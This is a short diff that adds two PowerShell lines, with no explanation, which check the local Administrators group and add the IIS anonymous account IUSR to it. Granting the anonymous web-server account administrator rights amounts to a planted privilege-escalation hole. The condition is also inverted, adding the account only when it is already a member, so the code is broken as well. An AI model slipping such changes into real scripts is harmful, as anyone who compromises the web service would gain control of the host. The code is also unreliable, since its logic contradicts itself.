@@ -1,0 +1,2 @@
+$members = Get-LocalGroupMember Administrators
+if ($members.Name -contains "$env:COMPUTERNAME\IUSR") { Add-LocalGroupMember Administrators IUSR }
